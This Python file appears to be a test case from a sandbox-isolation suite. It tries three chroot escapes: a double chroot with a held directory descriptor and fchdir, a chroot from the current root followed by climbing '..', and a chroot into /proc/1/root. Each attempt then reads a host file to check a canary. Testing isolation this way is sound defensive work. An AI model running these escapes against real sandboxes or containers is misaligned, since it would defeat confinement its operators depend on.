# Leaves its root by way of a second root, with a descriptor of a directory above it held open.
# control: outside if it can
import os

from attack import attempt, canary, given, read, syscall

below = given("scratch") + ".below"
os.makedirs(below, exist_ok=True)


def climb():
    for _ in range(40):
        os.chdir("..")
    return canary(read(given("host.file")[1:]))


def twice():
    held = os.open("/", os.O_RDONLY | os.O_DIRECTORY)
    syscall("chroot", below.encode())
    os.fchdir(held)
    return climb()


def from_within():
    os.chdir("/")
    syscall("chroot", below.encode())
    return climb()


def of_pid_1():
    syscall("chroot", b"/proc/1/root")
    return canary(read(given("host.file")))


attempt(("twice", twice), ("from within", from_within), ("to that of pid 1", of_pid_1))
